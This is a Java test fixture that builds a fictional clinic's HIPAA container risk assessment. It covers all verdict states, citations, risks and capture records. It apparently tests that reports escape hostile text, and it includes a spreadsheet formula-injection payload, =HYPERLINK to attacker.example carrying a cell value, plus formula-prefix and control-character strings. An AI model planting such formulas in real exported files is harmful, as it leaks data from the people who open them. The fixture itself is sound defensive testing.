package org.safeguard.reporting;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.safeguard.model.fact.Cause;
import org.safeguard.model.risk.Assessment;
import org.safeguard.model.risk.Asset;
import org.safeguard.model.risk.CitationState;
import org.safeguard.model.risk.EphiTier;
import org.safeguard.model.risk.EvidenceState;
import org.safeguard.model.risk.Level;
import org.safeguard.model.risk.Rating;
import org.safeguard.model.risk.Risk;
import org.safeguard.model.risk.SafeguardDetermination;
import org.safeguard.model.risk.Scope;
import org.safeguard.model.rule.Citation;
import org.safeguard.model.rule.Fix;
import org.safeguard.model.rule.Pack;
import org.safeguard.model.rule.Question;
import org.safeguard.model.rule.Rule;
import org.safeguard.model.rule.Safeguard;
import org.safeguard.model.rule.Severity;
import org.safeguard.model.rule.Strength;
import org.safeguard.model.rule.Support;
import org.safeguard.model.rule.Threat;
import org.safeguard.model.snapshot.CaptureRecord;
import org.safeguard.model.snapshot.CaptureRequest;
import org.safeguard.model.snapshot.CapturedList;
import org.safeguard.model.snapshot.Coverage;
import org.safeguard.model.snapshot.Redaction;
import org.safeguard.model.snapshot.ResourceType;
import org.safeguard.model.snapshot.Skipped;
import org.safeguard.model.snapshot.Snapshot;
import org.safeguard.model.snapshot.SourceFile;
import org.safeguard.model.snapshot.TypeCoverage;
import org.safeguard.model.verdict.AssessedSubject;
import org.safeguard.model.verdict.Evidence;
import org.safeguard.model.verdict.ObjectReference;
import org.safeguard.model.verdict.Outcome;
import org.safeguard.model.verdict.ProposedValue;
import org.safeguard.model.verdict.Verdict;

/// An assessment of a fictional clinic: every state, every cause, and texts that mean harm.
final class Clinic {

  static final Instant TIME = Instant.parse("2026-11-20T14:30:00Z");
  static final String HOSTILE = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")";
  static final String LONG = "long text ".repeat(4_000);
  static final String CONTROLS = "a\u0000b\u0007c\u001bd_x0041_e\r\nf\ud83d\ude91g\ud800h\uffff";

  private static final String[] NAMES = {
    "records-api", "lab-results", "portal", "billing", "imaging"
  };
  private static final String[] EPHI = {"maintains", "maintains", "transmits", "unknown", "none"};

  private Clinic() {}

  static Assessment small() {
    return of(5, 6, 5);
  }

  /// @param workloads how many workloads
  /// @param risks how many risks
  /// @param findingsEach failed verdicts for each risk
  static Assessment of(int workloads, int risks, int findingsEach) {
    List<Safeguard> safeguards = new ArrayList<>();
    List<Rule> rules = new ArrayList<>();
    for (int i = 0; i < Math.max(6, risks); i++) {
      safeguards.add(safeguard(i));
      rules.add(rule(i));
    }
    Pack pack =
        new Pack(
            "hipaa-container-safeguards",
            "1.0.0",
            "HIPAA container safeguards",
            "Safeguards for containers",
            "ab".repeat(32),
            citations(),
            safeguards,
            questions(safeguards),
            rules);
    List<Asset> assets = new ArrayList<>();
    for (int i = 0; i < workloads; i++) {
      assets.add(asset(i));
    }
    List<Verdict> verdicts = new ArrayList<>();
    List<Risk> found = new ArrayList<>();
    for (int i = 0; i < risks; i++) {
      List<String> ids = new ArrayList<>();
      for (int j = 0; j < findingsEach; j++) {
        Verdict verdict =
            failed(rules.get(i), assets.get((i + j) % assets.size()), i * findingsEach + j);
        verdicts.add(verdict);
        ids.add(verdict.id());
      }
      found.add(risk(i, safeguards.get(i), assets, ids));
    }
    found.sort(java.util.Comparator.comparing(Risk::level).reversed().thenComparing(Risk::id));
    others(verdicts, rules, assets);
    return new Assessment(
        "0123456789abcdef",
        "0.1.0",
        TIME,
        scope(),
        List.of(pack),
        List.of(snapshot()),
        assets,
        verdicts,
        determinations(safeguards),
        states(safeguards),
        found);
  }

  private static Scope scope() {
    return new Scope(
        "Lakeside Community Clinic & Partners",
        "Jo Example, Example Assurance LLC",
        "Container platform risk analysis 2026",
        "The production cluster that runs electronic records, laboratory results and the patient portal.",
        List.of());
  }

  private static List<Citation> citations() {
    return List.of(
        new Citation(
            "164.308(a)(1)(ii)(A)",
            "Risk analysis",
            "Required",
            "Assess the risks to ePHI accurately and thoroughly.",
            "RA-3",
            Citation.Observability.PARTIAL),
        new Citation(
            "164.308(a)(5)(ii)(B)",
            "Protection from malicious software",
            "Addressable",
            "Guard against, detect and report malicious software.",
            "SI-3",
            Citation.Observability.PARTIAL),
        new Citation(
            "164.310(a)(1)",
            "Facility access controls",
            "Standard",
            "Limit physical access.",
            "PE-3",
            Citation.Observability.ATTESTATION),
        new Citation(
            "164.312(a)(1)",
            "Access control",
            "Standard",
            "Allow access only to those who have been granted it.",
            "AC-3, AC-6",
            Citation.Observability.DIRECT),
        new Citation(
            "164.312(b)",
            "Audit controls",
            "Standard",
            "Record and examine activity.",
            "AU-2, AU-12",
            Citation.Observability.DIRECT),
        new Citation(
            "164.312(e)(1)",
            "Transmission security",
            "Standard",
            "Guard ePHI that is sent over a network.",
            "SC-8",
            Citation.Observability.DIRECT));
  }

  private static final String[][] THEMES = {
    {
      "Workloads",
      "Containers run without privileges they do not need",
      "Adversarial: outsider",
      "An attacker who enters one container takes over its node and reads every patient record on it",
      "Containers run privileged or as root, so that a break-in does not stay inside",
      "Set a restricted security context on each workload and enforce it with pod security admission"
    },
    {
      "Access control",
      "No account has more rights than its work needs",
      "Adversarial: insider",
      "A stolen service account token is used to read every secret of the cluster",
      "Roles grant wildcard verbs or access to all secrets",
      "Replace wildcard roles by the verbs that are used"
    },
    {
      "Network",
      "Traffic between workloads is limited to what is needed",
      "Adversarial: outsider",
      "An attacker moves from the public portal to the records database",
      "Namespaces with ePHI have no network policy",
      "Deny by default, then allow the known flows"
    },
    {
      "Transmission",
      "ePHI is encrypted on its way",
      "Adversarial: outsider",
      "Patient data is read on its way to the portal",
      "An ingress serves plain HTTP",
      "Serve TLS only"
    },
    {
      "Availability",
      "Clinical services survive the loss of a node",
      "Structural: equipment failure",
      "The records service is down while a node restarts, and care is delayed",
      "One replica, no disruption budget",
      "Run two replicas or more and add a disruption budget"
    },
    {
      "Images",
      "Images are pinned to what was tested",
      "Accidental: privileged user",
      "An untested or altered image reaches production",
      "Images are referred to by a moving tag",
      "Refer to images by digest"
    },
  };

  private static Safeguard safeguard(int i) {
    String[] theme = THEMES[i % THEMES.length];
    return new Safeguard(
        "SAF-%02d".formatted(i + 1),
        theme[0],
        theme[1],
        List.of(citations().get(1 + i % 5).id(), "164.308(a)(1)(ii)(A)"),
        "Pod templates",
        "Who approves exceptions?",
        "Scanner reports",
        new Threat(theme[2], theme[3], theme[4], theme[5], i % 3 != 1, i % 2 == 0));
  }

  private static Rule rule(int i) {
    String[] theme = THEMES[i % THEMES.length];
    return new Rule(
        "SGW-TST-%03d".formatted(i + 1),
        "workload",
        theme[1],
        theme[3],
        Severity.values()[i % 5],
        "Container",
        "true",
        "false",
        "m",
        "",
        "",
        new Fix(List.of(theme[5], "Roll out and assess again"), "/spec/x", "true"),
        List.of(
            new Support(
                "SAF-%02d".formatted(i + 1), i % 2 == 0 ? Strength.DIRECT : Strength.SUPPORTING)),
        "A pass does not show that the setting is in use.",
        List.of("Pod Security Standards"),
        "1.0.0",
        List.of("trivy:KSV-0017"));
  }

  private static List<Question> questions(List<Safeguard> safeguards) {
    return safeguards.stream()
        .limit(12)
        .map(
            s ->
                new Question(
                    "Q-" + s.id() + "-1",
                    s.id(),
                    "Who reviews exceptions to this safeguard, and how often?",
                    "A named role, a period, and the last record.",
                    "Platform lead"))
        .toList();
  }

  private static ObjectReference object(int i) {
    String name = NAMES[i % NAMES.length] + (i < NAMES.length ? "" : "-" + i);
    return new ObjectReference("apps/v1", "Deployment", "clinic", name, "uid-" + i, "1" + i);
  }

  private static Asset asset(int i) {
    return new Asset(
        object(i),
        EPHI[i % EPHI.length],
        i % 5 == 3 ? "" : "label safeguard.hipaa/ephi",
        i % 5 < 3 ? "clinical records" : "",
        i == 0 ? HOSTILE : "Records team",
        i % 5 < 2 ? "Tier 1" : "Tier 2",
        List.of("persistentVolumeClaim data", "emptyDir cache"),
        i % 5 == 2 ? List.of("Ingress portal") : List.of(),
        i % 5 + 1,
        List.of("registry.example/clinic/" + object(i).name() + ":1." + i));
  }

  private static Verdict failed(Rule rule, Asset asset, int i) {
    String message =
        switch (i) {
          case 0 -> HOSTILE;
          case 1 -> LONG;
          case 2 -> CONTROLS;
          case 3 -> "+1+2";
          case 4 -> "@SUM(A1)\t\"quoted\", and\nsecond line";
          default ->
              "Container app of " + asset.object().name() + " does not hold: " + rule.title();
        };
    return verdict(
        "f",
        i,
        rule,
        asset,
        new Outcome.Failed(
            message,
            i % 3 == 0
                ? List.of()
                : List.of(
                    new ProposedValue(
                        "/spec/template/spec/containers/0/securityContext/privileged", "false"))));
  }

  private static Verdict verdict(String kind, int i, Rule rule, Asset asset, Outcome outcome) {
    Evidence evidence =
        new Evidence(
            asset.object(),
            "/spec/template/spec/containers/0/securityContext/privileged",
            i % 2 == 0 ? "true" : "absent (default: false)",
            "clinic/" + asset.object().name() + ".yaml",
            20 + i);
    return new Verdict(
        "%s%015x".formatted(kind, i),
        rule,
        new AssessedSubject(asset.object(), "app", asset.ephi()),
        outcome,
        outcome instanceof Outcome.NotApplicable ? List.of() : List.of(evidence));
  }

  private static void others(List<Verdict> verdicts, List<Rule> rules, List<Asset> assets) {
    for (int i = 0; i < 40; i++) {
      verdicts.add(
          verdict("a", i, rules.get(i % 6), assets.get(i % assets.size()), new Outcome.Passed()));
    }
    Cause.Code[] codes = Cause.Code.values();
    for (int i = 0; i < 16; i++) {
      Cause cause =
          new Cause(
              codes[i % codes.length == 7 ? 7 : i % 5],
              "The network policies of namespace clinic are not in the snapshot; list networkpolicies.networking.k8s.io in all namespaces");
      verdicts.add(
          verdict(
              "b",
              i,
              rules.get(i % 6),
              assets.get(i % assets.size()),
              new Outcome.NotAssessed(cause)));
    }
    for (int i = 0; i < 7; i++) {
      verdicts.add(
          verdict(
              "c",
              i,
              rules.get(i % 6),
              assets.get(i % assets.size()),
              new Outcome.NotApplicable("Jobs do not run for long")));
    }
  }

  private static Risk risk(int i, Safeguard safeguard, List<Asset> assets, List<String> findings) {
    Level[] levels = Level.values();
    Level initiation = levels[(4 + i * 3) % 5];
    Level adverse = levels[(4 + i * 2) % 5];
    Level impact = levels[(4 + i * 4) % 5];
    Level likelihood = Matrices.overallLikelihood(initiation, adverse);
    EphiTier tier = EphiTier.values()[i % 4];
    return new Risk(
        "R-" + safeguard.id() + "-" + tier.name(),
        safeguard.threat().event(),
        safeguard.id(),
        tier,
        assets.stream().limit(3 + i % 40).map(a -> a.object().toString()).toList(),
        safeguard.threat().source(),
        safeguard.threat().event(),
        safeguard.threat().vulnerability(),
        "Service account tokens are not mounted (4 of 5 workloads)",
        new Rating(initiation, "Reachable from outside the cluster"),
        new Rating(adverse, "One step from ePHI"),
        likelihood,
        new Rating(impact, "Maintains clinical records of Tier 1"),
        Matrices.riskLevel(likelihood, impact),
        safeguard.threat().recommendation(),
        safeguard.citations(),
        findings);
  }

  private static List<SafeguardDetermination> determinations(List<Safeguard> safeguards) {
    List<SafeguardDetermination> said = new ArrayList<>();
    for (int i = 0; i < safeguards.size(); i++) {
      EvidenceState state = i < 3 ? EvidenceState.CONTRADICTED : EvidenceState.values()[i % 4];
      said.add(
          new SafeguardDetermination(safeguards.get(i), state, "5 of 12 checks failed.", 5, 5, 2));
    }
    return said;
  }

  private static List<CitationState> states(List<Safeguard> safeguards) {
    List<CitationState> states = new ArrayList<>();
    for (int i = 0; i < citations().size(); i++) {
      boolean attest = i == 2;
      states.add(
          new CitationState(
              citations().get(i),
              attest ? EvidenceState.ATTESTATION_NEEDED : EvidenceState.values()[(i + 1) % 4],
              "One safeguard speaks against it.",
              List.of(safeguards.get(i).id()),
              attest ? List.of() : List.of(safeguards.get((i + 1) % 6).id()),
              List.of("Q-SAF-01-1")));
    }
    return states;
  }

  private static Snapshot snapshot() {
    return new Snapshot(
        "cd".repeat(32),
        "lakeside.zip",
        "bundle",
        "prod-east",
        TIME.minusSeconds(3_600),
        "1.31.2",
        List.of(new SourceFile("objects/apps/v1/deployments.jsonl", 123_456, "ef".repeat(32))),
        List.of(),
        List.of(
            new TypeCoverage(ResourceType.of("Pod"), Coverage.CAPTURED, 12, ""),
            new TypeCoverage(
                ResourceType.of("Secret"),
                Coverage.FORBIDDEN,
                0,
                "GET /api/v1/secrets answered 403"),
            new TypeCoverage(ResourceType.of("Deployment.apps"), Coverage.CAPTURED, 5, ""),
            new TypeCoverage(
                ResourceType.of("NetworkPolicy.networking.k8s.io"),
                Coverage.UNKNOWN,
                0,
                "the source holds no NetworkPolicy")),
        List.of(
            new Skipped(
                "chart/templates/app.yaml",
                3,
                Skipped.Kind.NOT_KUBERNETES,
                "A Helm template; render the chart and add the result")),
        record());
  }

  private static CaptureRecord record() {
    ResourceType pods = ResourceType.of("Pod");
    Instant begun = TIME.minusSeconds(3_600);
    String deployments = "/apis/apps/v1/deployments";
    return new CaptureRecord(
        List.of(
            new CapturedList(
                pods, "/api/v1/pods", "90210", begun, begun.plusSeconds(41), 3, 12, 200, false),
            new CapturedList(
                ResourceType.of("Secret"),
                "/api/v1/secrets",
                "",
                begun.plusSeconds(2),
                begun.plusSeconds(2),
                0,
                0,
                403,
                true),
            new CapturedList(
                ResourceType.of("Deployment.apps"),
                deployments,
                "90214",
                null,
                null,
                1,
                5,
                200,
                true)),
        List.of(
            new CaptureRequest(begun, "GET", "/version", 200, 263),
            new CaptureRequest(begun.plusSeconds(1), "GET", "/api/v1/pods?limit=500", 0, 0),
            new CaptureRequest(
                begun.plusSeconds(2), "GET", "/api/v1/pods?limit=500", 200, 2_456_789),
            new CaptureRequest(
                begun.plusSeconds(3),
                "GET",
                "/api/v1/pods?limit=500&continue=eyJ2Ijoi…",
                200,
                1_456_789),
            new CaptureRequest(begun.plusSeconds(4), "GET", "/api/v1/secrets?limit=500", 403, 312),
            new CaptureRequest(begun.plusSeconds(5), "GET", deployments + "?limit=500", 200, 9876)),
        List.of(
            new Redaction(
                pods, "/metadata/annotations/*", "not on the list of annotations", false, 31),
            new Redaction(
                pods,
                "/spec/containers/*/env/*/value",
                "looks like a password, by its name",
                false,
                2),
            new Redaction(
                pods, "/spec/containers/*/env/*/value", "does not look like a secret", true, 118)));
  }
}
